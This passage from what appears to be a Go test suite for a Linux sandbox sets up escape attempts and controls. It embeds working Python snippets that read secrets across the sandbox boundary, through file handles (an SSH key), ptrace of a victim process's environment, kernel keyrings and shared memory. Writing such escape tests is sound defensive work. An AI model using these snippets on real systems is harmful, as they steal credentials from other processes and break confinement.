	// Opened without O_CREAT when it exists: in sticky /tmp, another
	// user's file refuses that (fs.protected_regular).
	f, err := os.Open(tunablesLock)
	if errors.Is(err, fs.ErrNotExist) {
		f, err = os.OpenFile(tunablesLock, os.O_RDONLY|os.O_CREATE, 0o644)
	}
	if err != nil {
		t.Fatalf("lock the host's tunables: %v", err)
	}
	for {
		err = syscall.Flock(int(f.Fd()), syscall.LOCK_EX)
		if err != syscall.EINTR {
			break
		}
	}
	if err != nil {
		f.Close()
		t.Fatalf("lock the host's tunables: %v", err)
	}
	t.Cleanup(func() { f.Close() })
}

func tunableChanged(e *escEnv, r *escResult) bool {
	b, err := os.ReadFile(e.vars["F"])
	return err == nil && strings.TrimSpace(string(b)) != e.vars["V"]
}

// setupCgroup makes a cgroup for the attempt and delegates it to the
// caller (chown, as systemd does), so a write from outside the sandbox
// works for either user.
func setupCgroup(e *escEnv) {
	if os.Geteuid() != 0 {
		e.t.Skip("making a cgroup needs root")
	}
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		e.t.Skip(err)
	}
	var mnt, knob, val string
	for _, line := range strings.Split(string(b), "\n") {
		pre, post, ok := strings.Cut(line, " - ")
		f, g := strings.Fields(pre), strings.Fields(post)
		if !ok || len(f) < 5 || len(g) < 1 {
			continue
		}
		switch {
		case g[0] == "cgroup2":
			mnt, knob, val = f[4], "cgroup.max.descendants", "7"
		case g[0] == "cgroup" && mnt == "":
			mnt, knob, val = f[4], "notify_on_release", "1"
		}
		if knob == "cgroup.max.descendants" {
			break
		}
	}
	if mnt == "" {
		e.t.Skip("no cgroup file system mounted")
	}
	cg := filepath.Join(mnt, fmt.Sprintf("sandtable-escape-%x", rand.Uint64()))
	if err := os.Mkdir(cg, 0o755); err != nil {
		e.t.Skipf("cannot make a cgroup under %s: %v", mnt, err)
	}
	e.t.Cleanup(func() { os.Remove(cg) })
	if cur, _ := os.ReadFile(filepath.Join(cg, knob)); strings.TrimSpace(string(cur)) == val {
		e.t.Fatalf("%s/%s is already %s", cg, knob, val)
	}
	for _, p := range []string{cg, filepath.Join(cg, knob), filepath.Join(cg, "cgroup.procs")} {
		e.chown(e.t, p)
	}
	e.vars["CG"], e.vars["KNOB"], e.vars["VAL"] = cg, knob, val
}

// setupRootDevice finds the block device the root file system is on.
func setupRootDevice(e *escEnv) {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		e.t.Skip(err)
	}
	var majmin, src string
	for _, line := range strings.Split(string(b), "\n") {
		pre, post, _ := strings.Cut(line, " - ")
		f, g := strings.Fields(pre), strings.Fields(post)
		if len(f) >= 5 && f[4] == "/" && len(g) >= 2 {
			majmin, src = f[2], g[1]
		}
	}
	fi, err := os.Stat(src)
	if err != nil || fi.Mode()&os.ModeDevice == 0 || fi.Mode()&os.ModeCharDevice != 0 {
		e.t.Skipf("the root file system (%q) is not on a block device node", src)
	}
	maj, min, _ := strings.Cut(majmin, ":")
	e.vars["DEV_MAJ"], e.vars["DEV_MIN"], e.vars["DISK"] = maj, min, src
}

// setupSetuid copies id(1) as a setuid-root binary outside the workspace.
func setupSetuid(e *escEnv) {
	if os.Geteuid() != 0 {
		e.t.Skip("making a setuid-root binary needs root")
	}
	src := escLook("id")
	if src == "" {
		e.t.Skip("no id(1)")
	}
	b, err := os.ReadFile(src)
	if err != nil {
		e.t.Fatal(err)
	}
	dst := filepath.Join(e.dir, "suid-id")
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		e.t.Fatal(err)
	}
	if err := os.Chmod(dst, 0o4755|os.ModeSetuid); err != nil {
		e.t.Fatal(err)
	}
	var st syscall.Statfs_t
	if err := syscall.Statfs(dst, &st); err == nil && st.Flags&0x2 != 0 { // ST_NOSUID
		e.t.Skipf("%s is on a nosuid file system", e.dir)
	}
	e.vars["SUID_ID"] = dst
}

// setupHostname picks a new name and makes sure the host gets its own back.
func setupHostname(e *escEnv) {
	orig, err := os.Hostname()
	if err != nil {
		e.t.Skip(err)
	}
	name := fmt.Sprintf("sandtable-%x", rand.Uint32())
	e.vars["NEWNAME"] = name
	e.t.Cleanup(func() {
		if h, _ := os.Hostname(); h != orig {
			if err := syscall.Sethostname([]byte(orig)); err != nil {
				e.t.Errorf("restore hostname %q: %v", orig, err)
			}
		}
	})
}

// handlePy gets a file handle outside (the attacker is assumed to have
// learned it; for ext4 it is the inode and generation) and opens it
// inside, relative to the sandbox's /.
const handlePy = `
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
if sys.argv[1] == "get":
    buf = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", buf, 0, 128)
    mid = ctypes.c_int()
    if libc.name_to_handle_at(-100, sys.argv[2].encode(), buf, ctypes.byref(mid), 0) != 0:
        sys.exit("name_to_handle_at: " + os.strerror(ctypes.get_errno()))
    n = struct.unpack_from("I", buf, 0)[0]
    print(buf.raw[:8 + n].hex())
else:
    h = bytes.fromhex(os.environ["HANDLE"])
    buf = ctypes.create_string_buffer(h, len(h))
    fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), buf, os.O_RDONLY)
    if fd < 0:
        sys.exit("open_by_handle_at: " + os.strerror(ctypes.get_errno()))
    print(os.read(fd, 200).decode(errors="replace"))
`

func setupHandle(e *escEnv) {
	e.secret = e.sshSecret
	e.vars["HANDLE_PY"] = handlePy
	out, err := exec.Command(e.py, "-c", handlePy, "get", e.sshKey).CombinedOutput()
	if err != nil {
		e.t.Skipf("no file handle for %s here: %v %s", e.sshKey, err, out)
	}
	e.vars["HANDLE"] = strings.TrimSpace(string(out))
}

// setupInheritedFD opens the attempt's directory in the test process
// without O_CLOEXEC, as a descriptor inherited from the caller's own parent
// (a service manager, a shell, a CI runner) is, on a high number exec
// leaves alone: Command must mark it close-on-exec before the spawn. The
// snippet uses only $FD. The controls, which bypass Command, get the
// directory as an extra file of the spawn instead, so the child holds it
// whatever the flag on the high descriptor is by then.
func setupInheritedFD(e *escEnv) {
	hidden := e.mkdir(filepath.Join(e.dir, "hidden"))
	e.secretFile(filepath.Join(hidden, "key"))
	e.cfg.Hidden = []string{hidden}
	low, err := syscall.Open(e.dir, syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
	if err != nil {
		e.t.Fatal(err)
	}
	fd, _, errno := syscall.Syscall(syscall.SYS_FCNTL, uintptr(low), syscall.F_DUPFD, 200)
	syscall.Close(low)
	if errno != 0 {
		e.t.Fatal(errno)
	}
	e.t.Cleanup(func() { syscall.Close(int(fd)) })
	e.vars["FD"] = strconv.Itoa(int(fd))
	e.wrap = func(cmd *exec.Cmd, m escMode) {
		if m.kind == modeSandbox {
			return
		}
		dir, err := os.Open(e.dir)
		if err != nil {
			e.t.Fatal(err)
		}
		e.t.Cleanup(func() { dir.Close() })
		n := strconv.Itoa(3 + len(cmd.ExtraFiles))
		cmd.ExtraFiles = append(cmd.ExtraFiles, dir)
		for i, kv := range cmd.Env {
			if strings.HasPrefix(kv, "FD=") {
				cmd.Env[i] = "FD=" + n
			}
		}
	}
}

// escVictim is a process of the caller's that runs outside the sandbox.
type escVictim struct {
	pid    int
	done   chan struct{}
	status syscall.WaitStatus
}

// startVictim starts `sleep 60` as the caller, with a secret in its
// environment, and exports $VICTIM_PID.
func (e *escEnv) startVictim() {
	e.secret = escToken("victim-env")
	cmd := exec.Command(escLook("sleep"), "60")
	cmd.Env = []string{"PATH=" + escPath, "SANDTABLE_VICTIM_SECRET=" + e.secret}
	cmd.Dir = "/"
	if e.u.cred != nil {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: e.u.cred}
	}
	if err := cmd.Start(); err != nil {
		e.t.Fatal(err)
	}
	v := &escVictim{pid: cmd.Process.Pid, done: make(chan struct{})}
	go func() {
		cmd.Wait()
		v.status = cmd.ProcessState.Sys().(syscall.WaitStatus)
		close(v.done)
	}()
	e.t.Cleanup(func() { cmd.Process.Kill(); <-v.done })
	e.victim = v
	e.vars["VICTIM_PID"] = strconv.Itoa(v.pid)
}

// killed reports whether the victim died of SIGKILL.
func (v *escVictim) killed() bool {
	select {
	case <-v.done:
		return v.status.Signaled() && v.status.Signal() == syscall.SIGKILL
	case <-time.After(300 * time.Millisecond):
		return false
	}
}

// procCtl is the control for attacks on a host process: without the pid
// namespace it is visible, but the user namespace still denies ptrace
// access (and for root, so does the empty capability set), so the control
// takes all of them out. bwrap cannot run unprivileged without a user
// namespace, so the unprivileged control runs outside.
func procCtl(e *escEnv) escMode {
	if !e.u.isRoot() {
		return outsideCtl()
	}
	return dropRules("unshare-all", "unshare-user", "disable-userns", "cap-drop")
}

// ptracePy attaches to $VICTIM_PID, reads its environment block word by
// word with PTRACE_PEEKDATA, and detaches.
const ptracePy = `
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(os.environ["VICTIM_PID"])
if libc.ptrace(16, pid, None, None) != 0:
    sys.exit("PTRACE_ATTACH: " + os.strerror(ctypes.get_errno()))
os.waitpid(pid, 0)
st = open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()
start, end = int(st[47]), int(st[48])
data = b""
for a in range(start, min(end, start + 8192), 8):
    ctypes.set_errno(0)
    w = libc.ptrace(2, pid, ctypes.c_void_p(a), None)
    if w == -1 and ctypes.get_errno():
        break
    data += struct.pack("<q", w)
libc.ptrace(17, pid, None, None)
print(data.replace(b"\0", b"\n").decode(errors="replace"))
`

// connectPy connects to the unix socket argv[1] (a leading @ makes it
// abstract) and prints what the server sends.
const connectPy = `
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.settimeout(3)
try:
    s.connect("\0" + sys.argv[1][1:] if sys.argv[1].startswith("@") else sys.argv[1])
    print(s.recv(200).decode())
except Exception as e:
    print("connect:", e)
`

// serve listens on addr and sends the attempt's secret to every client.
func (e *escEnv) serve(network, addr string, bound func(net.Addr)) net.Listener {
	e.secret = escToken(e.a.name)
	ln, err := net.Listen(network, addr)
	if err != nil {
		e.t.Fatal(err)
	}
	if ul, ok := ln.(*net.UnixListener); ok {
		// The file stays until the pass's directory goes (see
		// socketGrace).
		ul.SetUnlinkOnClose(false)
		e.sockets.Store(true)
	}
	e.t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte(e.secret + "\n"))
			c.Close()
		}
	}()
	if bound != nil {
		bound(ln.Addr())
	}
	e.vars["CONNECT_PY"] = connectPy
	return ln
}

// serveUnix serves the secret on a path socket the caller may connect to.
func (e *escEnv) serveUnix(path string) {
	e.serve("unix", path, nil)
	if err := os.Chmod(path, 0o777); err != nil {
		e.t.Fatal(err)
	}
	e.chown(e.t, path)
	e.vars["SOCK"] = path
}

// keysPy looks the attempt's key up in the session, user and user-session
// keyrings and prints whatever it can read.
const keysPy = `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
keyctl = int(os.environ["SYS_KEYCTL"])
for ring in (-3, -4, -5):
    k = libc.syscall(keyctl, 10, ctypes.c_int(ring), b"user", os.environ["KEY_DESC"].encode(), 0)
    if k < 0:
        print(ring, "search:", os.strerror(ctypes.get_errno()))
        continue
    buf = ctypes.create_string_buffer(512)
    n = libc.syscall(keyctl, 11, ctypes.c_long(k), buf, 512)
    print(ring, "read:", buf.raw[:max(n, 0)].decode(errors="replace"))
`

// keyLauncherPy joins a fresh session keyring, adds the secret to it and
// execs its arguments: a caller whose session holds a key (a Kerberos or
// AFS token, an ecryptfs passphrase...).
const keyLauncherPy = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
secret = os.environ.pop("SANDTABLE_KEY_SECRET").encode()
if libc.syscall(int(os.environ["SYS_KEYCTL"]), 1, None) < 0:
    sys.exit("join session keyring: " + os.strerror(ctypes.get_errno()))
if libc.syscall(int(os.environ["SYS_ADD_KEY"]), b"user", os.environ["KEY_DESC"].encode(), secret, len(secret), ctypes.c_int(-3)) < 0:
    sys.exit("add_key: " + os.strerror(ctypes.get_errno()))
os.execve(sys.argv[1], sys.argv[1:], dict(os.environ))
`

func keyringSyscalls(e *escEnv) {
	switch runtime.GOARCH {
	case "amd64":
		e.vars["SYS_ADD_KEY"], e.vars["SYS_KEYCTL"] = "248", "250"
	case "arm64", "riscv64", "loong64":
		e.vars["SYS_ADD_KEY"], e.vars["SYS_KEYCTL"] = "217", "219"
	default:
		e.t.Skipf("keyring syscall numbers unknown for %s", runtime.GOARCH)
	}
	e.vars["KEYS_PY"] = keysPy
	e.vars["KEY_DESC"] = fmt.Sprintf("sandtable-escape-%x", rand.Uint64())
}

// setupSessionKey runs every mode under keyLauncherPy.
func setupSessionKey(e *escEnv) {
	needSeccomp(e)
	keyringSyscalls(e)
	e.secret = escToken("session-key")
	e.wrap = func(cmd *exec.Cmd, _ escMode) {
		cmd.Args = append([]string{e.py, "-c", keyLauncherPy, cmd.Path}, cmd.Args[1:]...)
		cmd.Path = e.py
		cmd.Env = append(cmd.Env, "SANDTABLE_KEY_SECRET="+e.secret)
	}
}

// needSeccomp skips an attempt that only the seccomp rule stops where
// that rule does not apply.
func needSeccomp(e *escEnv) {
	if nativeSeccomp() == nil {
		e.t.Skipf("no seccomp filter for %s: rule seccomp does not apply, and this attack is open here", runtime.GOARCH)
	}
}

// setupUserKey adds a key to the caller's user keyring (as the caller) and
// invalidates it afterwards.
func setupUserKey(e *escEnv) {
	keyringSyscalls(e)
	e.secret = escToken("user-key")
	py := func(src string, args ...string) string {
		cmd := exec.Command(e.py, append([]string{"-c", src}, args...)...)
		cmd.Env = append(e.childEnv(nil), "SANDTABLE_KEY_SECRET="+e.secret)
		if e.u.cred != nil {
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: e.u.cred}
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			e.t.Fatalf("%v: %s", err, out)
		}
		return strings.TrimSpace(string(out))
	}
	id := py(`
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
s = os.environ["SANDTABLE_KEY_SECRET"].encode()
k = libc.syscall(int(os.environ["SYS_ADD_KEY"]), b"user", os.environ["KEY_DESC"].encode(), s, len(s), ctypes.c_int(-4))
if k < 0: raise SystemExit("add_key: " + os.strerror(ctypes.get_errno()))
print(k)`)
	e.t.Cleanup(func() {
		py(`
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(int(os.environ["SYS_KEYCTL"]), 21, int(sys.argv[1]))`, id)
	})
}

// shmPy creates (as the caller, outside) or reads (inside) a SysV shared
// memory segment keyed by $SHM_KEY.
const shmPy = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
key = int(os.environ["SHM_KEY"])
if sys.argv[1] == "create":
    i = libc.shmget(key, 4096, 0o1000 | 0o600)
    if i < 0: sys.exit("shmget: " + os.strerror(ctypes.get_errno()))
    a = libc.shmat(i, None, 0)
    s = os.environ["SHM_SECRET"].encode()
    ctypes.memmove(a, s, len(s))
    libc.shmdt(ctypes.c_void_p(a))
    print(i)
else:
    i = libc.shmget(key, 0, 0)
    if i < 0: sys.exit("shmget: " + os.strerror(ctypes.get_errno()))
    a = libc.shmat(i, None, 0o10000)
    if a in (None, 2**64 - 1): sys.exit("shmat: " + os.strerror(ctypes.get_errno()))
    print(ctypes.string_at(a, 80).split(b"\0")[0].decode())
`

func setupShm(e *escEnv) {
	e.secret = escToken("shm")
	e.vars["SHM_PY"] = shmPy
	e.vars["SHM_KEY"] = strconv.Itoa(int(rand.Int32N(1<<30)) + 1)
	cmd := exec.Command(e.py, "-c", shmPy, "create")
	cmd.Env = append(e.childEnv(nil), "SHM_SECRET="+e.secret)
	if e.u.cred != nil {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: e.u.cred}
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		e.t.Skipf("cannot create a SysV segment: %v %s", err, out)
	}
	id, err := strconv.Atoi(strings.TrimSpace(string(out)))
	if err != nil {
		e.t.Fatalf("shm id %q", out)
	}
	e.t.Cleanup(func() { syscall.Syscall(syscall.SYS_SHMCTL, uintptr(id), 0 /* IPC_RMID */, 0) })
}

// runOutlive starts the command under a bash parent, waits for the snippet
// to start, kills the parent, tells the snippet so, and gives a survivor
// 5 s to write its marker.
func runOutlive(e *escEnv, cmd *exec.Cmd) *escResult {
	started := filepath.Join(e.ws, "started")
	killed := filepath.Join(e.ws, "parent-killed")
	marker := filepath.Join(e.ws, "outlived")
	for _, p := range []string{started, killed, marker} {
		os.Remove(p)
	}
	logPath := filepath.Join(e.dir, "outlive.log")
	log, err := os.Create(logPath)
	if err != nil {
		e.t.Fatal(err)
	}
	defer log.Close()
	parent := exec.Command(e.bash, append([]string{"-c", `"$@" & wait`, "parent", cmd.Path}, cmd.Args[1:]...)...)
	parent.Env, parent.Dir, parent.ExtraFiles, parent.SysProcAttr = cmd.Env, cmd.Dir, cmd.ExtraFiles, cmd.SysProcAttr
	parent.Stdout, parent.Stderr = log, log
	if err := parent.Start(); err != nil {
		e.t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for !exists(started) && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	tree := descendants(parent.Process.Pid)
	parent.Process.Kill()
	parent.Wait()
	// Killing the parent starts a chain (bwrap's death signal, then its
	// pid 1's, then the namespace's teardown) that takes a moment, longer
	// on a loaded machine. Let it finish before the grandchild is told to
	// write: in the sandbox up to 10 s (a liveness bound: a survivor is
	// told all the same, and shows); in a control nothing dies, and the
	// wait ends early.
	limit := 10 * time.Second
	if e.mode.kind != modeSandbox {
		limit = time.Second
	}
	for start := time.Now(); len(tree) > 0 && slices.ContainsFunc(tree, alive); time.Sleep(10 * time.Millisecond) {
		if d := time.Since(start); d > limit || e.mode.kind != modeSandbox && d > 300*time.Millisecond && alive(tree[0]) {
			break // bwrap itself outlived its parent: nothing is dying
		}
	}
	if err := os.WriteFile(killed, nil, 0o644); err != nil {
		e.t.Fatal(err)
	}
	for deadline := time.Now().Add(5 * time.Second); !exists(marker) && time.Now().Before(deadline); {
		time.Sleep(20 * time.Millisecond)
	}
	out, _ := os.ReadFile(logPath)
	return &escResult{out: string(out), ran: exists(started) && bytes.Contains(out, []byte(escRan))}
}

// descendants lists the processes below pid, children first.
func descendants(pid int) []int {
	parents := map[int][]int{}
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		p, err := strconv.Atoi(d.Name())
		if err != nil {
			continue
		}
		stat, err := os.ReadFile("/proc/" + d.Name() + "/stat")
		if err != nil {
			continue
		}
		_, rest, _ := bytes.Cut(stat, []byte(") "))
		if f := strings.Fields(string(rest)); len(f) > 1 {
			if pp, err := strconv.Atoi(f[1]); err == nil {
				parents[pp] = append(parents[pp], p)
			}
		}
	}
	var out []int
	for queue := parents[pid]; len(queue) > 0; queue = queue[1:] {
		out = append(out, queue[0])
		queue = append(queue, parents[queue[0]]...)
	}
	return out
}

// legacyTIOCSTI is dev.tty.legacy_tiocsti ("" when the kernel predates it,
// which behaves like 1).
func legacyTIOCSTI() string {
	b, err := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti")
	if err != nil {
		return "1"
	}
	return strings.TrimSpace(string(b))
}
